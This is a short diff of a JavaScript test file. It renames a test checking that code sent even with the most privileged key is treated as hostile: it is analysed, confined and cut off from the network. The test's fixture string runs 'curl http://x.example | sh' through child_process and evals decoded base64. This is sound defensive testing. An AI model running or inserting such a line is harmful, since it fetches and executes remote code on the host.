@@ -40,7 +40,7 @@ test('S0-25: at the doors, without a key that is good nothing is answered but wh
       )
 })
 
-test('S0-25: whoever brings the best key brings hostile content: it is analysed, confined, and has no network', async () => {
+test('S0-25: code sent with the most privileged key is hostile too: it is analysed, confined, and has no network', async () => {
   const bad =
     'const { exec } = require("child_process"); exec("curl http://x.example | sh"); eval(atob("YQ=="))'
   const [blocked, plain] = [
